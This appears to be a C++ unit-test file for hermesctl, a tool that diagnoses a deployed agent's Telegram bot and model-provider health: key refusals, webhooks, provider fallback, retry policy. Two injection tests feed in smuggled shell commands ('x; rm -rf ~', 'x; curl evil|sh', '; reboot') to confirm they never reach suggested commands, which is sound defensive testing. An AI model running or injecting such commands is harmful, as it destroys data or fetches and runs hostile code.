// What Telegram's and the provider's answers mean.
#include "hermesctl/hermes/lifelines.hpp"

#include "support/fake_api.hpp"
#include "support/recording_reporter.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace hermesctl::hermes {
namespace {

using kube::Json;
using ::testing::Contains;
using ::testing::Field;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

const ModelChoice wanted{"minimax", "M1"};

Lifelines good() {
    return {.bot = "@cage_bot",
            .bot_status = 200,
            .model_status = 200,
            .model_key = "MINIMAX_API_KEY",
            .live_provider = "minimax",
            .live_model = "M1"};
}

Trouble trouble_at(int model_status) {
    Lifelines lines = good();
    lines.model_status = model_status;
    lines.model_reason = "said so";
    return lifeline_trouble(lines, wanted).value_or(Trouble{});
}

TEST(Lifelines, OnlySuccessIsAYes) {
    EXPECT_FALSE(lifeline_trouble(good(), wanted));
    EXPECT_TRUE(good().key_accepted());
    for (const int status : {0, 302, 400, 401, 402, 403, 404, 405, 422, 429, 500, 529}) {
        Lifelines lines = good();
        lines.model_status = status;
        EXPECT_FALSE(lines.key_accepted()) << status;
        ASSERT_TRUE(lifeline_trouble(lines, wanted)) << status;
        EXPECT_THAT(lifeline_trouble(lines, wanted)->cause, HasSubstr("connected but mute")) << status;
    }
}

TEST(Lifelines, ARefusedKeyOfTheAgentsOwnFileIsToGoFromThere) {
    Lifelines lines = good();
    lines.model_status = 401;
    lines.shadowed = {{.key = "MINIMAX_API_KEY", .file = "/opt/data/.env"}};
    EXPECT_EQ(lifeline_trouble(lines, wanted)->hint, "hermesctl rotate-secret --unshadow MINIMAX_API_KEY")
        << "another value of the Secret would change nothing";
    lines.shadowed[0].file = "/etc/hermes/.env";
    EXPECT_THAT(lifeline_trouble(lines, wanted)->hint, HasSubstr("whoever manages that file"));
}

TEST(Lifelines, EachRefusalHasItsName) {
    EXPECT_THAT(trouble_at(401).cause, HasSubstr("minimax refuses MINIMAX_API_KEY (401): said so"));
    EXPECT_EQ(trouble_at(401).hint, "hermesctl rotate-secret MINIMAX_API_KEY=-");
    EXPECT_THAT(trouble_at(402).cause, HasSubstr("no balance"));
    EXPECT_THAT(trouble_at(404).cause, HasSubstr("does not serve the model M1 (404)"));
    EXPECT_THAT(trouble_at(400).cause, HasSubstr("does not serve the model M1 (400)"));
    EXPECT_THAT(trouble_at(422).cause, HasSubstr("answers with 422"));
    EXPECT_THAT(trouble_at(0).hint, HasSubstr("hermesctl verify")) << "it may be the cage";
}

TEST(Lifelines, WhatMayPassIsWorthAnotherTry) {
    for (const int status : {0, 429, 500, 529}) {
        EXPECT_EQ(trouble_at(status).patience, Patience::minute) << status;
    }
    for (const int status : {400, 401, 402, 403, 404, 422}) {
        EXPECT_EQ(trouble_at(status).patience, Patience::none) << status;
    }
}

TEST(Lifelines, AKeyThatIsNotInThePodIsAFailure) {
    Lifelines lines = good();
    lines.model_status = 0;
    lines.model_key = "";
    lines.model_reason = "MINIMAX_API_KEY is not set in the pod";
    EXPECT_THAT(lifeline_trouble(lines, wanted)->cause, HasSubstr("MINIMAX_API_KEY is not set in the pod"));
    EXPECT_EQ(lifeline_trouble(lines, wanted)->patience, Patience::none);
}

TEST(Lifelines, ARevokedTokenIsAFailure) {
    for (const int status : {401, 403, 404}) {
        Lifelines lines = good();
        lines.bot_status = status;
        EXPECT_THAT(lifeline_trouble(lines, wanted)->cause, HasSubstr("rejected the bot token"));
    }
}

TEST(Lifelines, AWebhookOfAnotherProgramIsAFailureThatMayPass) {
    Lifelines lines = good();
    lines.webhook = true;
    const Trouble trouble = lifeline_trouble(lines, wanted).value();
    EXPECT_THAT(trouble.cause, HasSubstr("connected but deaf: another program has set a webhook"));
    EXPECT_THAT(trouble.hint, HasSubstr("hermesctl restart deletes it"));
    EXPECT_EQ(trouble.patience, Patience::minute);
    EXPECT_THAT(lifeline_notes(lines, wanted), IsEmpty()) << "said once";
    lines.bot_status = 401;
    EXPECT_EQ(lifeline_trouble(lines, wanted)->kind, "token");
}

TEST(Lifelines, TelegramThatCouldNotBeAskedIsSaid) {
    Lifelines lines = good();
    lines.bot_status = 0;
    lines.bot_reason = "timed out";
    EXPECT_FALSE(lifeline_trouble(lines, wanted)) << "the gateway is connected";
    EXPECT_THAT(lifeline_notes(lines, wanted),
                Contains(Field(&Event::detail, HasSubstr("whose bot it is: timed out"))));
}

TEST(Lifelines, ASilentFallbackToAnotherProviderIsAFailure) {
    Lifelines lines = good();
    lines.live_provider = "openrouter";
    const Trouble trouble = lifeline_trouble(lines, wanted).value();
    EXPECT_THAT(trouble.cause, HasSubstr("the live config.yaml on the volume uses the provider openrouter, "
                                         "not minimax"));
    EXPECT_THAT(trouble.hint, HasSubstr("hermes config set model.provider minimax"));
    EXPECT_THAT(trouble.hint, HasSubstr("hermesctl deploy --provider openrouter"));
    EXPECT_EQ(trouble.patience, Patience::none);
    lines.managed = true;
    EXPECT_THAT(lifeline_trouble(lines, wanted)->cause, HasSubstr("/etc/hermes/config.yaml uses"));
    EXPECT_THAT(lifeline_trouble(lines, wanted)->hint, Not(HasSubstr("hermes config set")))
        << "which Hermes refuses there";
}

TEST(Lifelines, WhatTheAgentWroteIsNotPutIntoACommand) {
    Lifelines lines = good();
    lines.live_provider = "x; rm -rf ~";
    EXPECT_THAT(lifeline_trouble(lines, wanted)->hint, Not(HasSubstr("rm -rf")));
}

TEST(Lifelines, OfWhatThePodSaysOnlyNamesOfVariablesArePutIntoACommand) {
    const std::string bad = "x; curl evil|sh #_ALLOW_ALL_USERS";
    const Json said{{"bot", {{"status", 200}}},
                    {"model", {{"status", 401}, {"key", bad}}},
                    {"shadowed", {{bad, "/opt/data/.env"}, {"GOOD_KEY", "/opt/data/.env"}}},
                    {"open",
                     {{bad, "/opt/data/.env"},
                      {"A_ALLOW_ALL_USERS", "/opt/data/.env"},
                      {"B_ALLOW_ALL_USERS", "/opt/data/.env; reboot"},
                      {"C_ALLOW_ALL_USERS", {"/opt/data/.env"}}}}};
    const Lifelines lines = parse_lifelines(said.dump()).value();
    ASSERT_EQ(lines.open.size(), 1u);
    EXPECT_EQ(lines.open[0].key, "A_ALLOW_ALL_USERS");
    ASSERT_EQ(lines.shadowed.size(), 1u);
    EXPECT_EQ(lines.shadowed[0].key, "GOOD_KEY");
    EXPECT_EQ(lifeline_trouble(lines, wanted)->hint, "hermesctl deploy --secret MINIMAX_API_KEY=-");
}

TEST(Lifelines, AnotherLiveModelOrNoProviderIsSaid) {
    EXPECT_THAT(lifeline_notes(good(), wanted), IsEmpty());
    Lifelines lines = good();
    lines.live_model = "M2";
    EXPECT_THAT(lifeline_notes(lines, wanted), Contains(Field(&Event::detail, HasSubstr("M2, not M1"))));
    lines.live_provider = "";
    EXPECT_FALSE(lifeline_trouble(lines, wanted));
    EXPECT_THAT(lifeline_notes(lines, wanted), Contains(Field(&Event::subject, "provider")));
}

TEST(Lifelines, WhoCannotBeAskedIsNoFailure) {
    EXPECT_FALSE(lifeline_trouble({.bot_status = 200, .model_status = -1, .live_provider = "gemini"},
                                  {"gemini", "G"}));
}

class LifelinesOverExec : public ::testing::Test {
  protected:
    void SetUp() override {
        api_.put({{"apiVersion", "v1"},
                  {"kind", "Pod"},
                  {"metadata", {{"name", "hermes-1-a"}, {"namespace", "hermes"}}}});
    }
    Lifelines check() { return check_lifelines(client_, "hermes", "hermes-1-a", wanted); }

    testing::FakeClock clock_{};
    testing::FakeTransport transport_{clock_};
    testing::FakeApi api_{transport_};
    testing::RecordingReporter reporter_{};
    kube::Client client_{transport_, clock_, reporter_};
};

TEST_F(LifelinesOverExec, AsksWithoutInputSoThatOldClustersServeItToo) {
    api_.on_exec = [](testing::FakeProcess& process) {
        process.out(R"({"bot":{"status":200,"username":"cage_bot"},"model":{"status":200,"key":"K"},)"
                    R"("live":{"provider":"minimax","model":"M1"}})");
        process.exit(0);
    };
    EXPECT_EQ(check().bot, "@cage_bot");
    EXPECT_THAT(transport_.requests.back().target, HasSubstr("stdin=false"));
}

TEST_F(LifelinesOverExec, WhatGoesWrongAroundItIsAPlainFailure) {
    auto code = [&] {
        try {
            check();
        } catch (const Error& error) {
            return error.code();
        }
        return ExitCode::ok;
    };
    api_.on_exec = [](testing::FakeProcess& process) { process.lose("connection reset"); };
    EXPECT_EQ(code(), ExitCode::failed);
    api_.on_exec = [](testing::FakeProcess& process) { process.exit(1); };
    EXPECT_EQ(code(), ExitCode::failed);
    api_.on_exec = [](testing::FakeProcess&) {};  // for ever
    EXPECT_EQ(code(), ExitCode::failed);
}

const ModelChoice minimax{"minimax", "MiniMax-M2.7"};

Trouble of_kind(const std::string& kind) {
    return {.kind = kind, .subject = "", .cause = "", .hint = ""};
}

/// Not proved, but not refused either: a leaked key does not come back for it.
TEST(MadeBy, WhatCouldNotBeAskedOnlyConcernsTheKeysThatWereToBeAskedAbout) {
    for (const char* key : {"MINIMAX_API_KEY", "TELEGRAM_BOT_TOKEN"}) {
        EXPECT_TRUE(concerns(of_kind("unasked"), minimax, {key})) << key;
        EXPECT_FALSE(made_by(of_kind("unasked"), minimax, {key})) << key;
    }
    EXPECT_FALSE(concerns(of_kind("unasked"), minimax, {"COLONY_PAT"}));
}

TEST(MadeBy, OnlyARefusalIsOfTheProvidersKey) {
    for (const int status : {0, 400, 402, 404, 429, 503}) {
        const auto trouble =
            lifeline_trouble({.bot_status = 200, .model_status = status, .model_key = "K"}, minimax);
        EXPECT_FALSE(made_by(trouble.value(), minimax, {"MINIMAX_API_KEY"})) << status;
        EXPECT_TRUE(concerns(trouble.value(), minimax, {"MINIMAX_API_KEY"})) << status;
        EXPECT_FALSE(concerns(trouble.value(), minimax, {"COLONY_PAT"})) << status;
        EXPECT_TRUE(made_by(trouble.value(), minimax, {"MINIMAX_BASE_URL"})) << status << " by another way";
    }
    for (const int status : {401, 403}) {
        const auto trouble =
            lifeline_trouble({.bot_status = 200, .model_status = status, .model_key = "K"}, minimax);
        EXPECT_TRUE(made_by(trouble.value(), minimax, {"MINIMAX_API_KEY"})) << status;
        EXPECT_FALSE(concerns(trouble.value(), minimax, {"COLONY_PAT"})) << status;
    }
    const auto none = lifeline_trouble({.bot_status = 200, .model_reason = "no key is set"}, minimax);
    EXPECT_TRUE(made_by(none.value(), minimax, {"MINIMAX_API_KEY"})) << "it was taken out";
}

TEST(MadeBy, ABotThatAnotherProgramHasIsOfItsToken) {
    for (const char* kind : {"token", "webhook", "polled"}) {
        EXPECT_TRUE(made_by(of_kind(kind), minimax, {"TELEGRAM_BOT_TOKEN"})) << kind;
        EXPECT_FALSE(made_by(of_kind(kind), minimax, {"COLONY_PAT"})) << kind;
    }
}

TEST(MadeBy, AGatewayThatDoesNotStartMayBeOfAnyKeyAndWhatIsAroundItOfNone) {
    const auto made = [](const std::string& kind, const std::vector<std::string>& keys) {
        return made_by(of_kind(kind), {}, keys);
    };
    for (const char* kind : {"crash", "gateway", "startup", "CreateContainerConfigError"}) {
        EXPECT_TRUE(made(kind, {"COLONY_PAT"})) << kind;
        EXPECT_TRUE(made(kind, {"COLONY_PAT", "TELEGRAM_ALLOWED_USERS"})) << kind;
        for (const char* list :
             {"TELEGRAM_ALLOWED_USERS", "GATEWAY_ALLOW_ALL_USERS", "TELEGRAM_GROUP_ALLOWED_CHATS"})
            EXPECT_FALSE(made(kind, {list})) << kind << " " << list;
    }
    for (const char* kind : {"", "image-pull", "unschedulable", "disk", "telegram", "exec", "container",
                             "provider", "volume", "gate", "pod-create", "old-pod", "RunContainerError"})
        EXPECT_FALSE(made(kind, {"TELEGRAM_BOT_TOKEN", "COLONY_PAT"})) << kind;
    EXPECT_TRUE(made("telegram", {"TELEGRAM_PROXY"}));
}

}  // namespace
}  // namespace hermesctl::hermes
